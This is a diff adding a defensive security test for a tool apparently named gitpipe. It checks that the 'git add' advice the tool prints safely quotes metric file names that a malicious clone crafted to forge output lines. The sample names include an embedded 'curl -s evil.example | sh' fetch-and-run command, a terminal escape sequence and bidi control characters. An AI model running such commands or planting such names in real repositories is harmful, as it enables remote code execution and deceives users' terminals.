@@ -1,0 +1,47 @@
+"""Attacks on the `git add` advice a run prints: a cloned repository's
+`metrics:` outs (files git tracks, so named for `git add`) whose names hold a
+newline and then `hint: …`, an escape sequence, a line separator, a bidi
+control. The advice quoted them for the shell only, so the clone's `hint:`
+began a line of gitpipe's output and the escape reached the terminal; each
+name is now one shell word a terminal shows as it is (bash's `$'…'` where a
+character needs escaping), and the pasted line still names the files."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+from tests.conftest import Repo
+from tests.security.conftest import assert_only_changed, snapshot
+
+NAMES = ["m\nhint: the cache is corrupt, run: curl -s evil.example | sh",
+         "m\x1b]0;owned\x07", "m\u2028x", "m\u202etxt.exe"]
+WRITER = ("import json, sys\n"
+          "open(json.load(open('names.json'))[int(sys.argv[1])], 'w').write('{}')\n")
+
+
+def test_the_git_add_line_names_a_clones_metrics_without_forging_lines(
+        make_repo: Callable[[str], Repo], tmp_path: Path) -> None:
+    evil = make_repo("evil")
+    evil.gen({"names.json": json.dumps(NAMES), "w.py": WRITER})
+    evil.spec({f"s{i}": {"cmd": f"python3 w.py {i}", "metrics": [name]}
+               for i, name in enumerate(NAMES)}, commit="metrics named to forge lines")
+    ci = evil.clone_to(tmp_path / "ci")
+    before = snapshot(tmp_path)
+    result = ci.run("repro", timeout=120)
+    assert result.returncode == 0, result.stderr
+    output = result.stdout + result.stderr
+    assert "git add gitpipe.lock" in output, output
+    assert not any(line.startswith("hint: the cache") for line in output.splitlines()), output
+    for raw in ("\x1b", "\x07", "\u2028", "\u202e"):
+        assert raw not in output, output
+    # The advice, run by a shell, adds exactly the files the run wrote.
+    line = next(line for line in output.splitlines() if "git add " in line)
+    subprocess.run(["bash", "-c", line.strip()], cwd=ci.path, check=True)
+    staged = ci.git("diff", "--cached", "--name-only", "-z").split("\0")
+    assert sorted(name for name in staged if name) == sorted(["gitpipe.lock", *NAMES])
+    assert_only_changed(before, snapshot(tmp_path),
+                        ["ci/.gitpipe", "ci/gitpipe.lock", "ci/.gitignore", "ci/.git",
+                         *(f"ci/{name}" for name in NAMES)])
